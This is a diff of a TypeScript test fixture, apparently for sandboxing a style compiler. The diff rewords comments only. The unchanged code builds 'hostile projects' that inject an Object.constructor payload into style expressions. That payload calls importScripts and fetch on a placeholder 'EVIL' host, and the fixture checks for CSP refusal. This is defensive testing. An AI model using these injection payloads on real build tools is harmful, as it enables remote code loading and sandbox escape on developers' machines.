@@ -1,10 +1,10 @@
 import type { HostileProject } from './hostile-kinds.ts';
 
-/** A function made of a text: what is in it runs where the compiler does. */
+/** A function made from a string, whose code would run where the compiler does. */
 const made =
   "Object.constructor(\"try { importScripts('EVIL/script') } catch {} fetch('EVIL/compiler'); return 'ESCAPED'\")";
 
-/** Expressions for which the compiler calls a function of the project while it evaluates styles. */
+/** Expressions for which the compiler calls a function of the project while evaluating styles. */
 const expressions: Record<string, string> = {
   'a map': `['red'].map(${made})[0]`,
   'a filter': `['red'].filter(${made})[0]`,
@@ -29,7 +29,7 @@ const expressions: Record<string, string> = {
   'a number of an object': `+({ valueOf: ${made} })`,
 };
 
-/** Browsers say that in their own words. */
+/** Each browser has its own words for this. */
 const refused = /unsafe-eval|blocked by CSP|TrustedScript/;
 
 const attack = (name: string, styles: string, file = 'App.tsx'): HostileProject => ({
@@ -44,7 +44,7 @@ const attack = (name: string, styles: string, file = 'App.tsx'): HostileProject 
   told: refused,
 });
 
-/** The calls that evaluate what they are given. */
+/** The places whose values the compiler evaluates. */
 const places: [name: string, file: string, write: (value: string) => string][] = [
   ['defineVars', 'a.stylex.tsx', (value) => `export const v = stylex.defineVars({ a: ${value} });`],
   [
@@ -81,7 +81,7 @@ const places: [name: string, file: string, write: (value: string) => string][] =
 
 const { 'a map': map = '', 'a text of an object': text = '' } = expressions;
 
-/** What would run code in the compiler before anything is shown. */
+/** Projects that try to run code in the compiler before anything is shown. */
 export const compiling: HostileProject[] = [
   ...Object.entries(expressions).map(([name, value]) =>
     attack(name, `export const s = stylex.create({ a: { color: ${value} } });`),
